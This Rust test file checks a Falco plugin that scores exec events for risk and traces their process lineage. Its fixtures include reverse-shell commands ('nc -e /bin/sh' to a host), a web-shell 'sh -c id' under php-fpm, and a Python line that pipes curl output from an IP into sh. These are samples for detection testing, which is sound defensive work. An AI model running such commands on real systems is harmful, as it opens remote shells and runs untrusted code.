//! The plugin hosted in-process by `falco_plugin_runner` ([`super::harness`]): a replay
//! source feeds exec events built by [`crate::bench_corpus::ExecEvent`], and a
//! libsinsp-shaped `threads` table gives the lineage.

use super::harness::{open_exit, ExecEvent as Exec, Harness, CONTAINER_ID, SHIM_ID, TRIAGE_API};
use super::{Lineage, LAST_LINEAGE};
use crate::analysis::{self, Ancestor};
use crate::facts::{self, DecodeLimits};
use falco_event::events::RawEvent;
use falco_event_schema::events::PPME_SYSCALL_EXECVE_19_X;
use falco_plugin_runner::{ExtractedField, PluginRunner};
use std::ffi::CStr;

fn last_lineage() -> Lineage {
    LAST_LINEAGE
        .with(|l| l.borrow().clone())
        .expect("a lineage was computed")
}

// ---------------------------------------------------------------------------------------
// Tests.

#[test]
fn every_field_on_a_realistic_container_exec() {
    let nc = Exec::nc(1_000, 300, 200);
    let mut h = Harness::new(c"{}", true, vec![nc.to_bytes()]);
    let ev = h.next_event();

    assert_eq!(h.string(&ev, "triage.exe_origin").as_deref(), Some("image"));
    assert_eq!(
        h.list(&ev, "triage.exe_flags"),
        ["EXE_WRITABLE", "EXE_LOWER_LAYER"]
    );
    assert_eq!(
        h.field(&ev, "triage.in_container"),
        ExtractedField::Bool(true)
    );
    assert_eq!(
        h.string(&ev, "triage.container_runtime").as_deref(),
        Some("docker")
    );
    // The thread table (container plugin) wins over cgroups.
    assert_eq!(
        h.string(&ev, "triage.container_id").as_deref(),
        Some(SHIM_ID)
    );
    assert_eq!(h.list(&ev, "triage.caps_dangerous"), ["CAP_SYS_ADMIN"]);
    assert_eq!(
        h.field(&ev, "triage.privileged"),
        ExtractedField::Bool(false)
    );
    assert_eq!(
        h.field(&ev, "triage.interactive"),
        ExtractedField::Bool(true)
    );
    assert_eq!(
        h.string(&ev, "triage.lineage").as_deref(),
        Some("systemd > containerd-shim > sh > nc")
    );
    assert_eq!(
        h.list(&ev, "triage.ancestors"),
        ["sh", "containerd-shim", "systemd"]
    );

    // The lineage the analysis saw, args from the nested table included.
    let lineage = last_lineage();
    assert!(lineage.known);
    assert_eq!(
        lineage.ancestors[0],
        Ancestor {
            comm: "sh".into(),
            exe: Some("/bin/sh".into()),
            args: vec!["-c".into(), "nc -e /bin/sh example.com 22".into()],
        }
    );

    // Analysis fields carry exactly what the core says for these facts and this lineage.
    let raw = nc.to_bytes();
    let raw_event = RawEvent::from(&raw).expect("raw event");
    let typed = raw_event
        .load::<PPME_SYSCALL_EXECVE_19_X>()
        .expect("execve");
    let facts = facts::from_execve(&typed.params, &DecodeLimits::default());
    let verdict = analysis::analyze(&facts, &lineage);
    let text = crate::report::render(&facts, &lineage, &verdict);
    assert_eq!(
        h.field(&ev, "triage.risk"),
        ExtractedField::U64(u64::from(verdict.risk))
    );
    assert_eq!(
        h.string(&ev, "triage.severity").as_deref(),
        Some(verdict.severity.as_str())
    );
    assert_eq!(
        h.string(&ev, "triage.category").as_deref(),
        Some(verdict.category)
    );
    assert_eq!(
        h.string(&ev, "triage.summary").as_deref(),
        Some(text.summary.as_str())
    );
    let ids = |v: Vec<&str>| v.into_iter().map(String::from).collect::<Vec<_>>();
    assert_eq!(
        h.list(&ev, "triage.signals"),
        ids(verdict.hits.iter().map(|x| x.signal.id).collect())
    );
    assert_eq!(
        h.list(&ev, "triage.mitre.techniques"),
        ids(verdict.techniques.iter().map(|x| x.id).collect())
    );
    assert_eq!(
        h.list(&ev, "triage.mitre.tactics"),
        ids(verdict.tactics.iter().map(|x| x.id).collect())
    );
    assert_eq!(
        h.list(&ev, "triage.mitigations"),
        ids(verdict.mitigations.iter().map(|x| x.text).collect())
    );
    assert_eq!(
        h.string(&ev, "triage.mitigation").as_deref(),
        verdict.mitigations.first().map(|m| m.text)
    );
    assert_eq!(h.list(&ev, "triage.evidence"), text.evidence);
    assert_eq!(
        h.field(&ev, "triage.test_activity"),
        ExtractedField::Bool(verdict.test_activity)
    );
    // The parent `sh -c '..'` shares no arguments with nc: not a repeat.
    assert_eq!(
        h.field(&ev, "triage.repeat_of_parent"),
        ExtractedField::Bool(false)
    );
    let report = h.string(&ev, "triage.report").expect("report");
    let expected = crate::report::json_report(&facts, &lineage, &verdict, &text);
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&report).expect("JSON"),
        expected
    );
    assert!(!report.contains('\n'), "compact JSON");

    // Every field, one analysis, one lineage walk (the 3 ancestors; the exec's own entry is
    // read only for triage.container_id, not by the walk: the event carries the ptid).
    assert_eq!(
        h.metric("field_extractions"),
        super::field_names().count() as u64
    );
    assert_eq!(h.metric("events_analysed"), 1);
    assert_eq!(h.metric("lineage_reads"), 3);
    assert_eq!(h.metric("decode_failures"), 0);
    assert_eq!(h.metric("panics_caught"), 0);
}

#[test]
fn every_declared_field_extracts() {
    let mut h = Harness::new(c"{}", true, vec![Exec::nc(1, 300, 200).to_bytes()]);
    let ev = h.next_event();
    for name in super::field_names() {
        assert!(
            matches!(h.runner.extract_field(&ev, name), Some(Ok(_))),
            "{name}"
        );
    }
    assert_eq!(h.metric("events_analysed"), 1);
}

#[test]
fn each_event_is_analysed_once() {
    let events = vec![
        Exec::nc(1, 300, 200).to_bytes(),
        Exec::nc(2, 300, 200).to_bytes(),
    ];
    let mut h = Harness::new(c"{}", true, events);
    let first = h.next_event();
    let second = h.next_event();
    for _ in 0..3 {
        h.field(&first, "triage.risk");
        h.field(&first, "triage.summary");
    }
    assert_eq!(h.metric("events_analysed"), 1);
    h.field(&second, "triage.risk");
    h.field(&second, "triage.lineage");
    assert_eq!(h.metric("events_analysed"), 2);
    // Back to the first event: the single-entry cache recomputes it.
    h.field(&first, "triage.severity");
    assert_eq!(h.metric("events_analysed"), 3);
    assert_eq!(h.metric("field_extractions"), 9);
}

#[test]
fn non_exec_events_are_not_ours() {
    let mut h = Harness::new(c"{}", true, vec![open_exit(1, 300)]);
    let ev = h.next_event();
    assert!(h.runner.extract_field(&ev, "triage.risk").is_none());
    assert!(h.runner.extract_field(&ev, "triage.summary").is_none());
    assert_eq!(h.metric("field_extractions"), 0);
    assert_eq!(h.metric("events_analysed"), 0);
    assert_eq!(h.metric("decode_failures"), 0);
}

#[test]
fn container_id_falls_back_to_cgroups_and_respects_host() {
    // tid 400 has no entry of its own: cgroups decide.
    let mut h = Harness::new(
        c"{}",
        true,
        vec![
            Exec::nc(1, 400, 200).to_bytes(),
            Exec::nc(2, 450, 1).to_bytes(),
        ],
    );
    let ev = h.next_event();
    assert_eq!(
        h.string(&ev, "triage.container_id").as_deref(),
        Some(&CONTAINER_ID[..12])
    );
    // The container plugin says host: no container id, whatever the cgroup path looks like.
    let ev = h.next_event();
    assert_eq!(h.string(&ev, "triage.container_id"), None);
    assert_eq!(
        h.string(&ev, "triage.lineage").as_deref(),
        Some("systemd > nc")
    );
}

#[test]
fn without_a_thread_table_lineage_is_unknown_and_cgroups_give_the_container() {
    let mut h = Harness::new(c"{}", false, vec![Exec::nc(1, 300, 200).to_bytes()]);
    let ev = h.next_event();
    assert_eq!(h.string(&ev, "triage.lineage"), None);
    assert!(h.list(&ev, "triage.ancestors").is_empty());
    assert!(!last_lineage().known);
    assert_eq!(
        h.string(&ev, "triage.container_id").as_deref(),
        Some(&CONTAINER_ID[..12])
    );
    assert_eq!(h.metric("lineage_reads"), 0);
}

#[test]
fn lineage_depth_is_bounded() {
    let ev = Exec::nc(1, 1021, 1020).to_bytes();
    let mut h = Harness::new(c"{}", true, vec![ev.clone()]);
    let e = h.next_event();
    assert_eq!(
        h.list(&e, "triage.ancestors"),
        ["p20", "p19", "p18", "p17", "p16"]
    );
    assert_eq!(
        h.string(&e, "triage.lineage").as_deref(),
        Some("p16 > p17 > p18 > p19 > p20 > nc")
    );

    let mut h = Harness::new(c"{\"lineage_depth\": 2}", true, vec![ev.clone()]);
    let e = h.next_event();
    assert_eq!(h.list(&e, "triage.ancestors"), ["p20", "p19"]);

    let mut h = Harness::new(c"{\"lineage_depth\": 16}", true, vec![ev.clone()]);
    let e = h.next_event();
    assert_eq!(h.list(&e, "triage.ancestors").len(), 16);

    let mut h = Harness::new(c"{\"lineage_depth\": 0}", true, vec![ev]);
    let e = h.next_event();
    assert_eq!(h.string(&e, "triage.lineage"), None);
}

#[test]
fn lineage_stops_at_placeholders_missing_parents_cycles_and_container_init() {
    let events = vec![
        Exec::nc(1, 502, 501).to_bytes(),   // bash, then a <NA> placeholder
        Exec::nc(2, 600, 599).to_bytes(),   // parent not in the table
        Exec::nc(3, 702, 700).to_bytes(),   // a -> b -> a
        Exec::nc(4, 803, 802).to_bytes(),   // sh -> tini (vpid 1) -> (shim not reached)
        Exec::nc(5, 1112, 1111).to_bytes(), // bash -> init (pid 1, vpid unknown) -> (p0 not reached)
    ];
    let mut h = Harness::new(c"{}", true, events);
    let e = h.next_event();
    assert_eq!(h.list(&e, "triage.ancestors"), ["bash"]);
    let e = h.next_event();
    assert!(h.list(&e, "triage.ancestors").is_empty());
    assert_eq!(h.string(&e, "triage.lineage"), None);
    assert!(!last_lineage().known);
    let e = h.next_event();
    assert_eq!(h.list(&e, "triage.ancestors"), ["a", "b"]);
    let e = h.next_event();
    assert_eq!(h.list(&e, "triage.ancestors"), ["sh", "tini"]);
    assert_eq!(
        h.string(&e, "triage.container_id").as_deref(),
        Some(&CONTAINER_ID[..12])
    );
    let e = h.next_event();
    assert_eq!(h.list(&e, "triage.ancestors"), ["bash", "systemd"]);
}

#[test]
fn attacker_controlled_comm_is_escaped_in_lineage() {
    let mut nc = Exec::nc(1, 300, 200);
    nc.comm = c"x\x1b[31mred\nnl".to_owned();
    let mut h = Harness::new(c"{}", true, vec![nc.to_bytes()]);
    let e = h.next_event();
    let lineage = h.string(&e, "triage.lineage").expect("lineage");
    assert!(
        !lineage.contains('\x1b') && !lineage.contains('\n'),
        "{lineage:?}"
    );
    assert!(
        lineage.starts_with("systemd > containerd-shim > sh > x"),
        "{lineage:?}"
    );
}

#[test]
fn a_panic_in_an_extractor_is_an_error_not_an_unwind() {
    let mut h = Harness::new(c"{}", true, vec![Exec::nc(1, 300, 200).to_bytes()]);
    let e = h.next_event();
    assert!(matches!(h.field(&e, "triage.risk"), ExtractedField::U64(_)));
    crate::panic_guard::force_next_panic();
    assert!(matches!(
        h.runner.extract_field(&e, "triage.summary"),
        Some(Err(_))
    ));
    assert_eq!(h.metric("panics_caught"), 1);
    // The plugin keeps working; the cache was dropped, so the event is analysed again.
    assert!(matches!(
        h.field(&e, "triage.summary"),
        ExtractedField::String(_)
    ));
    assert_eq!(h.metric("events_analysed"), 2);
}

#[test]
fn truncations_are_counted_and_limits_apply() {
    let mut h = Harness::new(
        c"{\"max_args\": 2, \"max_env\": 0}",
        true,
        vec![Exec::nc(1, 300, 200).to_bytes()],
    );
    let e = h.next_event();
    h.field(&e, "triage.risk");
    assert_eq!(h.metric("truncations"), 1);

    let mut h = Harness::new(c"{}", true, vec![Exec::nc(1, 300, 200).to_bytes()]);
    let e = h.next_event();
    h.field(&e, "triage.risk");
    assert_eq!(h.metric("truncations"), 0);
}

#[test]
fn config_forms_are_accepted() {
    // A YAML map arrives as a JSON object; `init_config: {}` as "null"; absent as "{}"
    // (libsinsp fills it in; the runner does not).
    for config in [
        c"{\"max_args\": 64, \"lineage_depth\": 3}",
        c"{}",
        c"null",
        c" null ",
    ] {
        let mut h = Harness::new(config, true, vec![Exec::nc(1, 300, 200).to_bytes()]);
        let e = h.next_event();
        assert!(
            matches!(h.field(&e, "triage.risk"), ExtractedField::U64(_)),
            "{config:?}"
        );
    }
}

#[test]
fn bad_configs_fail_init_naming_the_key() {
    let cases: [(&CStr, &str); 5] = [
        (c"{\"max_argz\": 3}", "max_argz"),
        (c"{\"max_args\": \"many\"}", "max_args"),
        (c"{\"lineage_depth\": 17}", "lineage_depth"),
        (c"{\"max_env_bytes\": -5}", "max_env_bytes"),
        (c"{\"max_args_bytes\": 1}", "max_args_bytes"),
    ];
    for (config, key) in cases {
        let mut runner = PluginRunner::new();
        let err = runner
            .register_plugin(&TRIAGE_API, config)
            .expect_err("bad config");
        assert!(
            err.to_string().contains(&format!("`{key}`")),
            "{config:?}: {err}"
        );
    }
}

/// Issue 4's bar: the same `sh -c id` is an admin's command under `bash < sshd` on the host
/// and a web shell under `php-fpm` in a container, and the parents come from the thread table.
#[test]
fn the_parent_from_the_thread_table_decides_sh_c_id() {
    let admin = Exec::new(5_000, 902, 901, "/bin/sh", &["sh", "-c", "id"]);
    let mut admin = admin;
    admin.tty = 34816;
    let webshell = Exec::new(5_001, 951, 950, "/bin/sh", &["sh", "-c", "id"]).in_docker();
    let mut h = Harness::new(c"{}", true, vec![admin.to_bytes(), webshell.to_bytes()]);

    let ev = h.next_event();
    assert_eq!(h.list(&ev, "triage.ancestors"), ["bash", "sshd", "systemd"]);
    let risk = match h.field(&ev, "triage.risk") {
        ExtractedField::U64(r) => r,
        other => panic!("risk: {other:?}"),
    };
    assert!(risk < 50, "admin sh -c id under sshd scored {risk}");

    let ev = h.next_event();
    assert_eq!(h.list(&ev, "triage.ancestors"), ["php-fpm"]);
    let risk = match h.field(&ev, "triage.risk") {
        ExtractedField::U64(r) => r,
        other => panic!("risk: {other:?}"),
    };
    assert!(risk >= 70, "sh -c id under php-fpm scored {risk}");
    let techniques = h.list(&ev, "triage.mitre.techniques");
    assert!(
        techniques.iter().any(|t| t == "T1190" || t == "T1505.003"),
        "{techniques:?}"
    );
    let summary = h.string(&ev, "triage.summary").unwrap_or_default();
    assert!(summary.contains("php-fpm"), "{summary}");
    assert!(
        h.metric("lineage_reads") >= 4,
        "sshd chain and php-fpm were read from the table"
    );
}

#[test]
fn contact_is_the_cargo_toml_repository() {
    use falco_plugin::base::Plugin;
    let manifest = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/Cargo.toml"))
        .expect("Cargo.toml");
    let manifest: toml::Table = manifest.parse().expect("Cargo.toml parses");
    let repository = manifest["package"]["repository"]
        .as_str()
        .expect("[package] repository is set");
    assert!(repository.starts_with("https://"), "{repository}");
    assert_eq!(
        super::TriagePlugin::CONTACT.to_str(),
        Ok(repository),
        "Plugin::CONTACT is Cargo.toml's repository"
    );
}

#[test]
fn a_wrapper_chain_marks_the_repeat() {
    // `timeout 10 nc ..` (tid 960 in the table) re-execs nc with the same arguments.
    let argv = ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"];
    let child = Exec::new(2_000, 961, 960, "/usr/bin/nc.traditional", &argv);
    let alone = Exec::new(2_001, 962, 901, "/usr/bin/nc.traditional", &argv);
    let mut h = Harness::new(c"{}", true, vec![child.to_bytes(), alone.to_bytes()]);
    let ev = h.next_event();
    assert!(matches!(h.field(&ev, "triage.risk"), ExtractedField::U64(r) if r >= 80));
    assert_eq!(
        h.field(&ev, "triage.repeat_of_parent"),
        ExtractedField::Bool(true)
    );
    // The same exec started by the login shell is the first of its chain.
    let ev = h.next_event();
    assert_eq!(
        h.field(&ev, "triage.repeat_of_parent"),
        ExtractedField::Bool(false)
    );
}

#[test]
fn a_shim_that_re_execs_in_place_marks_the_repeat() {
    // The pyenv shim: `python3 -c CODE` (the shim script), then, in the same process with the
    // same parent, `pyenv exec python3 -c CODE`: the thread table shows no parent that ran it.
    let code = "import os; os.system('curl -s http://203.0.113.7/a | sh')";
    let shim = Exec::new(
        3_000,
        970,
        901,
        "/root/.pyenv/shims/python3",
        &["python3", "-c", code],
    );
    let pyenv = Exec::new(
        3_001,
        970,
        901,
        "/root/.pyenv/libexec/pyenv",
        &["/root/.pyenv/libexec/pyenv", "exec", "python3", "-c", code],
    );
    // Another process running the same line is its own first exec.
    let other = Exec::new(
        3_002,
        971,
        901,
        "/root/.pyenv/libexec/pyenv",
        &["/root/.pyenv/libexec/pyenv", "exec", "python3", "-c", code],
    );
    let events = vec![shim.to_bytes(), pyenv.to_bytes(), other.to_bytes()];
    let mut h = Harness::new(c"{}", true, events);
    for expected in [false, true, false] {
        let ev = h.next_event();
        assert!(matches!(h.field(&ev, "triage.risk"), ExtractedField::U64(r) if r >= 80));
        assert_eq!(
            h.field(&ev, "triage.repeat_of_parent"),
            ExtractedField::Bool(expected)
        );
    }
}

#[test]
fn each_event_decoded_over_the_one_before_reads_as_if_alone() {
    // The plugin decodes and walks each event over the previous one's buffers: longer and
    // shorter argv, deeper and shallower lineage, a container and the host, one after the
    // other and back. Each must give what its own sample says, as if it were alone.
    let realistic = crate::bench_corpus::realistic();
    let mut samples: Vec<_> = realistic.mix.iter().collect();
    samples.push(&realistic.attack);
    samples.extend(realistic.mix.iter().rev());
    samples.push(&realistic.plain);
    let mut h = Harness::new(
        c"{}",
        true,
        samples.iter().map(|s| s.event.clone()).collect(),
    );
    for sample in samples {
        let e = h.next_event();
        let risk = h.field(&e, "triage.risk");
        let lineage = last_lineage();
        // The walk goes as deep as `lineage_depth` (default 5), and reads an ancestor's
        // arguments only where the analysis reads them: an interpreter's, and the parent's
        // when the exec pages.
        let depth = 5;
        let mut alone =
            sample.lineage.ancestors[..sample.lineage.ancestors.len().min(depth)].to_vec();
        let pages = analysis::analyze(&sample.facts, &sample.lineage).risk
            >= analysis::scoring::WARNING_RISK;
        for (position, a) in alone.iter_mut().enumerate() {
            if !(analysis::detectors::ancestor_args_read(&a.comm) || position == 0 && pages) {
                a.args.clear();
            }
        }
        assert_eq!(
            (&lineage.ancestors, lineage.known),
            (&alone, sample.lineage.known),
            "{}",
            sample.name
        );
        let expected = analysis::analyze(&sample.facts, &lineage);
        assert_eq!(
            risk,
            ExtractedField::U64(u64::from(expected.risk)),
            "{}",
            sample.name
        );
        let summary = h.string(&e, "triage.summary").unwrap_or_default();
        let alone = crate::report::render(&sample.facts, &lineage, &expected).summary;
        assert_eq!(summary, alone, "{}", sample.name);
    }
}

#[test]
fn an_exec_that_ran_nothing_is_judged_without_its_lineage_until_a_field_shows_it() {
    // A PATH search's ENOENT attempt under the admin's login shell (901 bash < 900 sshd).
    let mut attempt = Exec::new(1, 970, 901, "/usr/local/bin/ls", &["ls", "-la"]);
    attempt.res = -2;
    let mut h = Harness::new(c"{}", true, vec![attempt.to_bytes(), attempt.to_bytes()]);
    let e = h.next_event();
    assert_eq!(h.field(&e, "triage.risk"), ExtractedField::U64(0));
    assert_eq!(h.string(&e, "triage.category").as_deref(), Some("benign"));
    assert_eq!(h.metric("lineage_reads"), 0, "the verdict needs no lineage");
    assert_eq!(h.list(&e, "triage.ancestors"), ["bash", "sshd", "systemd"]);
    assert_eq!(h.metric("lineage_reads"), 3);
    let summary = h.string(&e, "triage.summary").expect("a summary");
    assert!(summary.contains("bash"), "{summary}");
    assert_eq!(h.metric("lineage_reads"), 3, "read once");
    // The environment, decoded only now, is the event's: the report counts its variables.
    let report = h.string(&e, "triage.report").expect("a report");
    assert!(report.contains("\"env_count\":2"), "{report}");
    // The next event starts unread again: the summary alone reads it.
    let e = h.next_event();
    let again = h.string(&e, "triage.summary").expect("a summary");
    assert_eq!(again, summary);
    assert_eq!(h.metric("lineage_reads"), 6);
}

#[test]
fn every_field_of_an_exec_that_ran_nothing_is_its_own() {
    // An exec that ran nothing is judged from its result alone, over the buffers of the exec
    // before it (here one in a container, as root, with a terminal and capabilities). Each
    // field, asked first, must read this exec, as it does once the whole exec was decoded.
    let mut attempt = Exec::new(2, 970, 901, "/usr/local/bin/ls", &["ls", "-la"]);
    attempt.res = -2;
    let events = || vec![Exec::nc(1, 300, 200).to_bytes(), attempt.to_bytes()];
    for name in super::field_names() {
        let mut first = Harness::new(c"{}", true, events());
        let before = first.next_event();
        first.field(&before, "triage.risk");
        let e = first.next_event();
        let asked_first = first.runner.extract_field(&e, name).map(|v| v.ok());
        let mut whole = Harness::new(c"{}", true, events());
        whole.next_event();
        let e = whole.next_event();
        whole.field(&e, "triage.report");
        let asked_after = whole.runner.extract_field(&e, name).map(|v| v.ok());
        assert_eq!(asked_first, asked_after, "{name}");
        assert!(asked_first.is_some_and(|v| v.is_some()), "{name}");
    }
    // Judged without decoding: the verdict fields leave the facts unread.
    let mut h = Harness::new(c"{}", true, events());
    h.next_event();
    let e = h.next_event();
    assert_eq!(h.string(&e, "triage.severity").as_deref(), Some("debug"));
    assert_eq!(
        h.field(&e, "triage.in_container"),
        ExtractedField::Bool(false)
    );
}

#[test]
fn the_result_read_alone_is_the_parsed_one() {
    use falco_event::events::{Event, EventMetadata, EventToBytes, RawEvent};
    use falco_event::types::SyscallResult;
    use falco_event_schema::events::PPME_SYSCALL_EXECVEAT_X;
    let mut events: Vec<Vec<u8>> = crate::bench_corpus::realistic()
        .mix
        .iter()
        .map(|s| s.event.clone())
        .collect();
    for res in [0, -2, -20, -13, i64::MIN] {
        let mut exec = Exec::new(1, 970, 901, "/usr/local/bin/ls", &["ls"]);
        exec.res = res;
        events.push(exec.to_bytes());
        // execveat, whose parameters are laid out as execve's.
        let params = PPME_SYSCALL_EXECVEAT_X {
            res: (res != i64::MIN).then_some(SyscallResult(res)),
            exe: Some(c"/tmp/x"),
            args: Some(b"a\0"),
            ..crate::bench_corpus::empty_execveat()
        };
        let mut bytes = Vec::new();
        Event {
            metadata: EventMetadata { ts: 1, tid: 970 },
            params,
        }
        .write(&mut bytes)
        .expect("an event");
        events.push(bytes);
    }
    let mut compared = 0;
    for bytes in &events {
        let raw = RawEvent::from(bytes).expect("an event");
        let parsed = raw.load::<super::ExecExit>().expect("an exec exit");
        let alone = super::ExecExitEvent(RawEvent::from(bytes).expect("an event")).res();
        assert_eq!(alone, parsed.params.res());
        compared += usize::from(alone.is_some());
    }
    assert!(compared > 20);
}

#[test]
fn a_malformed_exec_that_ran_nothing_fails_the_fields_that_show_it() {
    // An ENOENT attempt whose parameters after the result are cut short: the risk is known
    // from the result alone; the facts cannot be decoded, and say so.
    let mut attempt = Exec::new(2, 970, 901, "/usr/local/bin/ls", &["ls", "-la"]);
    attempt.res = -2;
    let mut bytes = attempt.to_bytes();
    let cut = bytes.len() - 40;
    bytes.truncate(cut);
    let len = u32::try_from(cut).expect("a short event");
    // The header's total length (after ts, tid) follows the cut.
    bytes[16..20].copy_from_slice(&len.to_ne_bytes());
    let mut h = Harness::new(c"{}", true, vec![bytes]);
    let e = h.next_event();
    assert_eq!(h.field(&e, "triage.risk"), ExtractedField::U64(0));
    assert!(matches!(
        h.runner.extract_field(&e, "triage.summary"),
        Some(Err(_))
    ));
    assert_eq!(h.metric("decode_failures"), 1);
    assert_eq!(h.metric("panics_caught"), 0);
}
